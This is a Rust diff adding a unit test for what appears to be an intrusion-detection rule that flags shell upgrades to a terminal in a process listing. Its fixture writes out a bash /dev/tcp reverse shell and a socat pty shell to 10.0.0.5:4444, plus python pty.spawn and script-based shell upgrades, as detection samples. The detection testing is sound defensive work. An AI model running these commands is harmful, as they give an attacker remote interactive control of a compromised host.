@@ -172,3 +172,26 @@ fn hidden_dir_and_busybox_shell_under_php() {
     let h = f.iter().find(|f| f.rule == "proc.exec.hidden-dir").unwrap();
     assert!(h.summary.starts_with("php-fpm (20) -> busybox (66) -> run (67)"), "{}", h.summary);
 }
+
+#[test]
+fn shell_upgraded_to_a_terminal() {
+    let text = r#"UID          PID    PPID  C STIME TTY          TIME CMD
+root       84010    4000  3 14:00 ?        00:05:10 /usr/bin/java -jar /app/app.jar
+root       84281   84010  0 14:02 ?        00:00:00 bash -i >& /dev/tcp/10.0.0.5/4444 0>&1
+root       84300   84281  0 14:03 ?        00:00:00 python3 -c import pty; pty.spawn("/bin/bash")
+root       84301   84300  0 14:03 pts/0    00:00:00 /bin/bash
+root       84400   84010  0 14:05 ?        00:00:00 script -qc /bin/bash /dev/null
+root       84500   84010  0 14:06 ?        00:00:00 python3 -m http.server 8000
+"#;
+    let (_, _, f) = run(text);
+    let up: Vec<&Finding> = f.iter().filter(|f| f.rule == "proc.tty-upgrade").collect();
+    assert_eq!(up.len(), 2, "{f:#?}");
+    assert!(up[0].summary.contains("python pty.spawn"), "{}", up[0].summary);
+    assert!(up[1].summary.contains("script -c with a shell"), "{}", up[1].summary);
+    assert_eq!(up[0].severity, Severity::High);
+    assert_eq!(cmdline::tty_upgrade("script -a /var/log/session.log"), None);
+    assert_eq!(
+        cmdline::tty_upgrade("socat tcp:10.0.0.5:4444 exec:'bash -li',pty,stderr,setsid"),
+        Some("socat with a pty")
+    );
+}
